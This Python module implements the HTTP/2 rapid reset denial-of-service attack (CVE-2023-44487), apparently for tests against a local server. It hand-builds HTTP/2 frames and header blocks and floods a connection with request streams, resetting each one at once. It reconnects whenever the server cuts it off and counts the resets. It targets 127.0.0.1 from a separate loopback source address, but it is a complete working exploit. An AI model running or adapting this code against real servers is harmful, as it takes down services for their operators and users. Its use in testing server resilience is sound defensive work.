"""The HTTP/2 rapid reset attack (CVE-2023-44487), for tests against the loopback address.

Frames by hand (RFC 9113), for no client library opens streams and resets them at once.
A header block is sent without the dynamic table (RFC 7541), so each is the same bytes.
"""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
LARGEST_STREAM = 2**31 - 1
ATTACKER = "127.0.0.2"


def frame(kind, flags, stream, payload=b""):
    """A frame: 24 bits of length, type, flags, stream, payload."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(**headers):
    """Literal headers, never indexed, names and values as they are."""
    block = b""
    for name, value in headers.items():
        name = name.replace("__", ":").replace("_", "-").encode()
        value = value.encode()
        assert len(name) < 127 and len(value) < 127
        block += b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value
    return block


def attack(port, path, request, seconds):
    """Asks on one connection to 127.0.0.1:port, stream after stream, and resets each at once.

    Comes from ATTACKER, so that others are told from it. Connects again whenever it is cut off. Returns how many streams it reset.
    """
    block = header_block(__method="POST", __scheme="http", __path=path, __authority="localhost",
                         content_type="application/grpc", te="trailers")
    message = struct.pack(">BI", 0, len(request)) + request
    end, resets = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port), timeout=1, source_address=(ATTACKER, 0)) as connection:
            try:
                resets += reset_streams(connection, block, message, end)
            except OSError:
                pass  # cut off, or not read any more: again
    return resets


def reset_streams(connection, block, message, end):
    """The attack on one connection, until its time or its stream numbers end."""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    cancel = struct.pack(">I", CANCEL)
    resets = 0
    for first in range(1, LARGEST_STREAM, 200):
        if time.monotonic() > end:
            break
        streams = range(first, first + 200, 2)
        connection.sendall(b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
            + frame(RST_STREAM, 0, stream, cancel) for stream in streams))
        resets += len(streams)
        read_what_came(connection)
    return resets


def read_what_came(connection):
    """Throws away what the peer has sent, for it must not be what stops the attack."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
    except BlockingIOError:
        pass
    connection.settimeout(1)
